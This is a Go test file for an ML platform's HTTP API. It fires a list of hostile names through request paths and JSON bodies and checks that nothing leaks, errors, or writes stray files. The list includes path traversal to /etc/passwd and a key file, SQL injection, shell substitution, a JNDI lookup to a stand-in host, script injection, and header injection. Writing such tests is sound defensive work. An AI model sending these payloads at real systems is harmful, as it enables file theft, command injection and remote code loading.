package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"aiforge.dev/forge/internal/httpapi"
)

// hostile are names that mean something to somebody: to a file system, SQL, a shell, a
// template, a page, a terminal, a header.
var hostile = []string{
	"..", ".", "../../forge.key", "../../../../../../etc/passwd", "..%2f..%2fforge.key", "%2e%2e%2f%2e%2e%2fforge.key", "....//....//forge.key", `..\..\forge.key`,
	"/etc/passwd", "file:///etc/passwd", "//evil.example/x", "a/../../../forge.key", "a\x00b", "a\x00../forge.key", ".git", "~root", "con", "nul.txt", "a.", " ", "\t",
	`"; drop table account; --`, `' or '1'='1`, "x); select 1; --", "$(id)", "`id`", "-rf", "--help", "{{7*7}}", "${jndi:ldap://evil.example/a}",
	"<script>alert(1)</script>", "a\r\nX-Injected: 1", "\u202egpj.exe", "\u2066calls\u2069", "🦊", "ｃalls", "cafe\u0301", "\u0131d", "CALLS", "\xff\xfe", "*", "?x=1", "#x", "%", strings.Repeat("a", 5000), strings.Repeat("../", 500) + "etc/passwd",
}

// ordinary are the files that come by themselves while a server works.
var ordinary = regexp.MustCompile(`^(audit|log|tmp|mlflow|mlflow/main|mlflow/main/demo|meta\.db-[a-z]+|lake|lake/main|lake/main/demo|lake/main/demo/monitoring|(audit|log|tmp|lake/main/demo/monitoring)/[a-zA-Z0-9_./-]+)$`)

// raw sends a request whose path is exactly as it is given.
func (f *forged) raw(t *testing.T, token, method, path string, body any) (answer, http.Header) {
	t.Helper()
	b, err := json.Marshal(body)
	if err != nil {
		t.Fatal(err)
	}
	req, err := http.NewRequestWithContext(context.Background(), method, f.app.Base()+"/", bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	req.URL.Opaque = path
	req.Header.Set("Authorization", "Bearer "+token)
	req.Header.Set("Content-Type", "application/json")
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		return answer{err: err}, nil
	}
	defer res.Body.Close()
	text := new(bytes.Buffer)
	_, err = text.ReadFrom(res.Body)
	return answer{res.StatusCode, res.Header.Get("Content-Type"), text.Bytes(), err}, res.Header
}

// TestHostileNamesInPaths puts every name into every place of every operation's path:
// nothing is found, nothing breaks, and no file is read or written beside.
func TestHostileNamesInPaths(t *testing.T) {
	f := fresh(t)
	token := f.owner(t)
	before, secret := files(t, f.data), mustRead(t, filepath.Join(f.data, "forge.key"))
	tried := 0
	for _, op := range f.app.server.Ops() {
		if !strings.ContainsAny(op.Path, "{*") {
			continue
		}
		for _, name := range hostile {
			for _, escaped := range []string{url.PathEscape(name), strings.ReplaceAll(url.PathEscape(name), "%2F", "/")} {
				tried++
				path := strings.ReplaceAll(pathParam.ReplaceAllString(op.Path, "\x00"), "*", "\x00")
				f.harmless(t, op, token, strings.ReplaceAll(path, "\x00", escaped), secret)
			}
		}
	}
	if tried < 5000 {
		t.Errorf("only %d requests", tried)
	}
	for path := range files(t, f.data) {
		if !before[path] && !ordinary.MatchString(path) && !strings.HasPrefix(path, "mlflow/main/demo/") {
			t.Errorf("%q has appeared", path)
		}
	}
}

func (f *forged) harmless(t *testing.T, op httpapi.Op, token, path string, secret []byte) {
	t.Helper()
	a, header := f.raw(t, token, op.Method, path, map[string]any{})
	if a.err != nil {
		t.Errorf("%s %.120q: %v", op.Method, path, a.err)
		return
	}
	redirected := a.status >= 300 && a.status < 400
	own := strings.Contains(op.Path, "mlflow-artifacts/artifacts/") || // a file may be called as it likes, in its own folder
		op.ID == "list-drift" || op.ID == "list-performance" || op.ID == "list-predictions" // of a name that nobody has there is nothing
	if a.status < 400 && !own && !f.elsewhere(path) || redirected || a.status >= 500 && a.status != 501 {
		t.Errorf("%s: %s %.120q: %d %.200s", op.ID, op.Method, path, a.status, a.body)
	}
	if bytes.Contains(a.body, []byte("root:x:0:")) || len(secret) > 0 && bytes.Contains(a.body, secret) || header.Get("X-Injected") != "" {
		t.Errorf("%s: %s %.120q gives away %.200s", op.ID, op.Method, path, a.body)
	}
	if header.Get("X-Content-Type-Options") != "nosniff" || strings.Contains(a.kind, "html") && a.status >= 400 {
		t.Errorf("%s: %s %.120q: headers %v", op.ID, op.Method, path, header)
	}
}

// elsewhere reports whether a path, once cleaned, is another one: the studio's page, or
// the list that the operation's folder is.
func (f *forged) elsewhere(path string) bool {
	plain, err := url.PathUnescape(path)
	return err == nil && (strings.Contains(plain, "/..") || strings.Contains(plain, "/.") || strings.Contains(plain, "//") || strings.HasSuffix(plain, "/"))
}

func files(t *testing.T, dir string) map[string]bool {
	t.Helper()
	out := map[string]bool{}
	err := filepath.WalkDir(dir, func(p string, _ fs.DirEntry, err error) error {
		if rel, e := filepath.Rel(dir, p); e == nil {
			out[filepath.ToSlash(rel)] = true
		}
		return err
	})
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	return out
}

func mustRead(t *testing.T, path string) []byte {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return bytes.TrimSpace(b)
}

// TestHostileNamesInBodies: a thing gets a plain name, or is not made; what only people
// read comes back letter by letter as JSON.
func TestHostileNamesInBodies(t *testing.T) {
	f := fresh(t)
	token := f.owner(t)
	for _, name := range hostile {
		if strings.Contains(name, "\xff") {
			continue // no JSON
		}
		for _, c := range []struct {
			method, path string
			body         map[string]any
			free         bool // a text for people
		}{
			{"PUT", "/api/recipes/x", map[string]any{"name": name, "from": "raw.x", "to": "curated.x", "steps": []any{}}, false},
			{"PUT", "/api/recipes/x", map[string]any{"name": "x", "from": "raw.x", "to": "curated." + name, "steps": []any{}}, false},
			{"PUT", "/api/recipes/x", map[string]any{"name": "x", "from": name + ".x", "to": "curated.x", "steps": []any{}}, false},
			{"POST", "/api/runs", map[string]any{"model": name, "training_set": "x"}, false},
			{"POST", "/api/runs", map[string]any{"model": "x", "training_set": name}, false},
			{"POST", "/api/features/training-sets", map[string]any{"name": name, "labels": "raw.x", "label": "y"}, false},
			{"POST", "/api/batch", map[string]any{"ref": name, "in": "raw.x", "out": "scored.x"}, false},
			{"POST", "/api/batch", map[string]any{"ref": "x", "in": "raw.x", "out": "scored." + name}, false},
			{"POST", "/api/ingest", map[string]any{"upload": name, "table": "raw.x"}, false},
			{"POST", "/api/recipes/suggest", map[string]any{"table": "raw." + name}, false},
			{"PUT", "/api/models/x/aliases/y", map[string]any{"version": 1, "from": 1}, false},
			{"POST", "/iceberg/v1/forge/namespaces", map[string]any{"namespace": []string{name}}, false},
			{"POST", "/mlflow/api/2.0/mlflow/registered-models/create", map[string]any{"name": name}, false},
			{"POST", "/api/members", map[string]any{"email": name + "@" + name, "role": "viewer", "password": "a long enough secret 1"}, false},
			{"POST", "/api/auth/switch", map[string]any{"to": name}, false},
			{"POST", "/api/uploads", map[string]any{"name": name, "size": 3}, true},
			{"POST", "/api/keys", map[string]any{"name": name, "role": "viewer"}, true},
			{"POST", "/mlflow/api/2.0/mlflow/experiments/create", map[string]any{"name": name}, true},
		} {
			a := f.ask(token, c.method, c.path, c.body)
			plain := name == "con" || c.path == "/api/members" && (name == "nul.txt" || name == "CALLS") // names like others
			if a.err != nil || a.status >= 500 || a.status < 400 && !c.free && !plain {
				t.Errorf("%s %s %.150s: %d %.200s %v", c.method, c.path, fmt.Sprint(c.body), a.status, a.body, a.err)
			}
			if !json.Valid(a.body) && len(a.body) > 0 {
				t.Errorf("%s %s %.150s: %s", c.method, c.path, fmt.Sprint(c.body), a.body)
			}
		}
	}
	for path := range files(t, filepath.Join(f.data, "uploads")) {
		if name := filepath.Base(path); path != "." && path != "main" && path != "main/demo" && !strings.HasPrefix(name, "up_") {
			t.Errorf("an upload lies in %q", path)
		}
	}
}
